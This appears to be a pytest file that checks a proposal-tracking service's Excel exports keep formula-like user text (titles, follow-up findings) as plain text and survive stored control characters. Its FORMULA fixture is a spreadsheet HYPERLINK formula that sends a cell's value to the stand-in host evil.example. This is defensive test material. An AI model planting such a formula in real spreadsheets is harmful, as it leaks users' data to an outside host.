"""The working lists' Excel files keep what people wrote as text: a 案由 or a 回头看 finding that
looks like a formula is never a live formula in the office's file, and a control character in a
row stored before input refused it no longer makes every export fail."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from service.db import unit_of_work
from service.models import Proposal
from tests.flows import Flow
from tests.web.conftest import log_in

FORMULA = '=HYPERLINK("http://evil.example/?"&D2,"查看详情")'
FINDINGS = "@SUM(A1:A9) 专用道已建成10公里，其余列入明年计划。"
KINDS = ("proposals", "assignments", "tracking")
# A column of each list that holds a day: it stays a real date, not text.
DAY_HEADERS = {"proposals": "提交日期", "assignments": "交办日期", "tracking": "答复日期"}


def _followed_up(world, title: str) -> dict:
    """A proposal replied (B), rated, and through a first 回头看 that found it partly done."""
    proposal = Flow(world).closed(title=title)
    office = world["office"]
    started = office.act("proposal", office.proposal(proposal["id"]), "start_follow_up")
    finding = {"outcome": "partial", "findings": FINDINGS, "next_follow_up": "2026-12-31"}
    return office.act("proposal", started, "complete_follow_up", **finding)


def _export(app, world, kind: str, via: str):
    if via == "api":
        office = world["office"]
        headers = {"Authorization": f"Bearer {office.token}"}
        return office.client.get(f"/api/v1/lists/{kind}?format=xlsx", headers=headers)
    return log_in(app, "office").client.get(f"/lists/{kind}.xlsx")


def _column(sheet, header: str) -> list:
    index = [cell.value for cell in sheet[1]].index(header)
    return [row[index] for row in sheet.iter_rows(min_row=2)]


@pytest.mark.parametrize("via", ["api", "page"])
@pytest.mark.parametrize("kind", KINDS)
def test_a_formula_in_a_title_is_exported_as_text(app, world, kind, via):
    _followed_up(world, FORMULA)

    response = _export(app, world, kind, via)

    sheet = load_workbook(io.BytesIO(response.data)).active
    assert response.status_code == 200
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    [title] = _column(sheet, "案由")
    assert (title.value, title.data_type) == (f"'{FORMULA}", "s")
    [day] = _column(sheet, DAY_HEADERS[kind])
    assert (day.data_type, day.number_format) == ("d", "yyyy-mm-dd")


@pytest.mark.parametrize("via", ["api", "page"])
def test_a_formula_in_the_follow_up_findings_is_exported_as_text(app, world, via):
    _followed_up(world, "关于提升城区公交准点率的提案")

    response = _export(app, world, "tracking", via)

    sheet = load_workbook(io.BytesIO(response.data)).active
    [findings] = _column(sheet, "回头看情况")
    assert (findings.value, findings.data_type) == (f"'{FINDINGS}", "s")


@pytest.mark.parametrize("via", ["api", "page"])
@pytest.mark.parametrize("kind", KINDS)
def test_a_control_character_stored_in_a_title_does_not_break_the_export(app, world, kind, via):
    proposal = _followed_up(world, "关于提升城区公交准点率的提案")
    with app.app_context(), unit_of_work() as session:  # an old row, from before input refused it
        stored = update(Proposal).where(Proposal.id == proposal["id"])
        session.execute(stored.values(title="关于提升城区\u0001公交准点率的提案"))

    response = _export(app, world, kind, via)

    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    assert [cell.value for cell in _column(sheet, "案由")] == ["关于提升城区公交准点率的提案"]
